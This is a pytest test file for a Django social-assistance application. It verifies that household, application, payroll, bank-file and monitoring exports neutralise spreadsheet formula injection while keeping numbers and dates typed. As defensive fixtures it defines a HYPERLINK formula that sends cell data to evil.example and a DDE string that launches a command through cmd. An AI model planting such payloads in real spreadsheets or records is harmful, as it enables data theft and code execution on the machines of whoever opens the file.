"""Spreadsheet formula injection (issue 16 §3): text that starts with ``= + - @``, a tab or a CR is written
inert in every Excel export and in the CSV bank files, while numbers and dates stay typed."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from minzheng.applications.exports import application_export
from minzheng.applications.models import Application
from minzheng.applications.selectors import ApplicationFilters
from minzheng.common.masking import mask_name
from minzheng.common.spreadsheets import csv_row, csv_writer, formula_like, xlsx_append
from minzheng.documents.exports import case_file_get, case_file_xlsx
from minzheng.enrolments.exports import enrolment_export
from minzheng.enrolments.selectors import EnrolmentFilters
from minzheng.monitoring import exports as monitoring_exports
from minzheng.monitoring import feeds
from minzheng.monitoring import services as monitoring_services
from minzheng.monitoring.selectors import AlertFilters
from minzheng.payments import services as payment_services
from minzheng.payments.exports import payroll_roster
from minzheng.payments.tests.factories import approve, enrol, month
from minzheng.policy.services import policy_builtin_load
from minzheng.registry.exports import household_export_write
from minzheng.registry.selectors import HouseholdFilters

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
REASON = "-2+3+cmd|' /C calc'!A0"
OPINION = "@SUM(1+1)"
JAN = month(2026, 1)


# --- the helper ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", True), ("+1+1", True), ("-1+1", True), ("@SUM(A1)", True), ("\t=1", True), ("\r=1", True),
        ("-", True), ("张三", False), ("a=1", False), ("", False), ("-12.50", False), ("+3", False),
        ("12", False), (Decimal("-12.50"), False), (-3, False), (None, False), (dt.date(2026, 1, 5), False),
    ],
)  # fmt: skip
def test_formula_like(value, expected):
    assert formula_like(value) is expected


def test_csv_row_prefixes_formula_like_text_with_a_quote():
    assert csv_row([PAYLOAD, "@x", "\tx", "张三", "-12.50", Decimal("-1.5"), 3, None]) == [
        "'" + PAYLOAD, "'@x", "'\tx", "张三", "-12.50", Decimal("-1.5"), 3, None,
    ]  # fmt: skip
    out = io.StringIO()
    csv_writer(out, lineterminator="\n").writerows([["名称", "+1"], ["-5", "=A1"]])
    assert out.getvalue() == "名称,+1\n-5,'=A1\n"  # numbers written as text are not formulas


@pytest.mark.parametrize("write_only", [False, True])
def test_xlsx_append_writes_text_inert_and_keeps_numbers_and_dates_typed(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("表")
    xlsx_append(
        sheet, [PAYLOAD, "+1", "-1+1", "@A1", "\t=1", "张三", Decimal("-12.50"), 7, dt.date(2026, 1, 5)]
    )
    buffer = io.BytesIO()
    book.save(buffer)
    cells = load_workbook(buffer)["表"][1]
    assert [(c.value, c.data_type, c.quotePrefix) for c in cells] == [
        (PAYLOAD, "s", True), ("+1", "s", False), ("-1+1", "s", True), ("@A1", "s", True), ("\t=1", "s", True),
        ("张三", "s", False), (-12.5, "n", False), (7, "n", False), (dt.datetime(2026, 1, 5), "d", False),
    ]  # fmt: skip


# --- every export ------------------------------------------------------------------------------------------


def _sheet(content: bytes, title: str | None = None):
    book = load_workbook(io.BytesIO(content))
    return book[title] if title else book.active


def _inert(cell, value: str) -> None:
    assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", True)


@pytest.fixture
def checker(make_user, divisions):
    return make_user("county2", "county_approver", divisions["xincheng"])


@pytest.fixture
def hostile(users, divisions, household_factory):
    """A household whose head is called ``PAYLOAD``, an approved 低保 application with a hostile reason
    and opinion, and an enrolment of 500.00 a month from January 2026."""
    household = household_factory(head_name=PAYLOAD)
    application = Application.objects.create(
        workflow="dibao", programme="dibao", household=household, applicant=household.head,
        division=divisions["street"], channel="window", submitted_on=dt.date(2026, 10, 8), step="approved",
        decided_on=dt.date(2026, 11, 20), monthly_amount=Decimal("1350.00"), starts_month=dt.date(2026, 12, 1),
        level="A", decision_reason=REASON, opinion=OPINION, number="150102-2026-0000001",
    )  # fmt: skip
    enrolment = enrol(household, divisions["street"], "500.00", JAN)
    return household, application, enrolment


def test_household_export(users, hostile):
    household, _application, _enrolment = hostile
    buffer = io.BytesIO()
    assert household_export_write(actor=users["caseworker"], filters=HouseholdFilters(), target=buffer) == 1
    sheet = _sheet(buffer.getvalue())
    assert sheet["B1"].value == "户主"
    _inert(sheet["B2"], PAYLOAD)
    assert (sheet["C2"].value, sheet["C2"].quotePrefix) == (household.head.id_number_masked, False)
    assert (sheet["D2"].value, sheet["D2"].data_type) == (1, "n")


def test_application_export(users, hostile):
    content, count = application_export(actor=users["caseworker"], filters=ApplicationFilters())
    sheet = _sheet(content)
    assert count == 1
    assert sheet["C1"].value == "申请人"
    _inert(sheet["C2"], PAYLOAD)
    _inert(sheet["E2"], PAYLOAD)  # 户主
    assert (sheet["J2"].value, sheet["J2"].data_type) == (dt.datetime(2026, 10, 8), "d")
    assert (sheet["Q2"].value, sheet["Q2"].data_type) == (1350, "n")


def test_case_file_export(users, hostile):
    _household, application, _enrolment = hostile
    case_file = case_file_get(actor=users["caseworker"], pk=application.pk, file_format="xlsx")
    sheet = _sheet(case_file_xlsx(case_file), "审批表")
    facts = {row[0].value: row[1] for row in sheet.iter_rows(min_row=3)}
    name = PAYLOAD if case_file.revealed else mask_name(PAYLOAD)
    _inert(facts["户主"], name)
    _inert(facts["申请人"], name)
    _inert(facts["决定理由"], REASON)
    _inert(facts["初审（审核）意见"], OPINION)
    assert (facts["月救助金额（元）"].value, facts["月救助金额（元）"].data_type) == (1350, "n")
    assert (facts["申请日期"].value, facts["申请日期"].data_type) == (dt.datetime(2026, 10, 8), "d")


def test_enrolment_export(users, hostile):
    content, count = enrolment_export(actor=users["county"], filters=EnrolmentFilters())
    sheet = _sheet(content)
    assert count == 1
    assert (sheet["C1"].value, sheet["E1"].value) == ("救助对象", "户主")
    _inert(sheet["C2"], PAYLOAD)
    _inert(sheet["E2"], PAYLOAD)
    assert (sheet["I2"].value, sheet["I2"].data_type) == (500, "n")


def test_payroll_roster_and_csv_bank_files(users, divisions, hostile, checker):
    _household, _application, enrolment = hostile
    payroll = payment_services.payroll_generate(
        actor=users["county"], county=divisions["xincheng"], month=JAN
    )
    sheet = _sheet(payroll_roster(actor=users["county"], payroll=payroll))
    assert [c.value for c in sheet[2]][:3] == ["序号", "姓名", "身份证号码（脱敏）"]
    _inert(sheet["B3"], PAYLOAD)
    assert [(c.value, c.data_type) for c in sheet[3][7:10]] == [(500, "n"), (0, "n"), (500, "n")]
    assert (sheet["A3"].value, sheet["A3"].data_type) == (1, "n")

    approve(payroll, users["county"], checker)
    today = timezone.localdate().strftime("%Y%m%d")
    expected = (
        "批次号,总笔数,总金额,日期,用途\r\n"
        f"150102202601,1,500.00,{today},社会救助资金2026年1月\r\n"
        "序号,收款账号,收款户名,金额,用途,业务参考号\r\n"
        '1,6228480012345678901,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""点击"")",500.00,'
        f"低保金2026年1月,{enrolment.pk}\r\n"
    )
    for code, encoding in (("csv_utf8", "utf-8"), ("csv_gbk", "gbk")):
        bank_file = payment_services.payroll_bank_file(
            actor=users["county"], payroll_id=payroll.pk, template_code=code
        )
        text = bank_file.content.decode(encoding)
        assert text == expected
        assert list(csv.reader(io.StringIO(text)))[3][2] == "'" + PAYLOAD


def test_monitoring_alert_and_feed_error_exports(users, hostile):
    household, _application, _enrolment = hostile
    policy_builtin_load()
    monitoring_services.monitoring_parameters_load()
    monitoring_services.rule_builtin_load()
    died = timezone.localdate() - dt.timedelta(days=2)
    delivery = f"身份证号码,死亡日期\n{household.head.id_number},{died}\n".encode()
    assert not feeds.feed_import(
        actor=users["region"], feed="death", content=delivery, file_name="d.csv"
    ).rejected
    run = monitoring_services.monitoring_run(actor=users["region"])

    content, count = monitoring_exports.alert_export(actor=users["county"], filters=AlertFilters())
    sheet = _sheet(content)
    assert (sheet["F1"].value, sheet["G1"].value) == ("户主", "预警人员")
    assert count == 2  # member death + deceased still paid
    assert [(sheet[f"A{row}"].value, sheet[f"B{row}"].value) for row in (2, 3)] == [
        (f"YJ{run.pk}-1", "死亡人员仍在享受救助"),
        (f"YJ{run.pk}-2", "家庭成员死亡"),
    ]  # fmt: skip  (the run's key comes from a sequence: other tests' runs advance it)
    for row in (2, 3):
        _inert(sheet[f"F{row}"], PAYLOAD)
        _inert(sheet[f"G{row}"], PAYLOAD)
    assert (sheet["C2"].value, sheet["C2"].data_type) == (1, "n")  # 规则版本
    assert sheet["J2"].data_type == "d"

    hostile_row = f"身份证号码,死亡日期\n{OPINION},{died}\n".encode()
    outcome = feeds.feed_import(actor=users["region"], feed="death", content=hostile_row, file_name="bad.csv")
    assert outcome.rejected
    errors = _sheet(monitoring_exports.feed_errors_export(batch=outcome.batch))
    assert [c.value for c in errors[2]] == [
        2,
        "身份证号码",
        OPINION,
        "身份证号码应为 18 位（或 15 位旧号码），实际为 9 位",
    ]
    assert errors["A2"].data_type == "n"
    _inert(errors["C2"], OPINION)
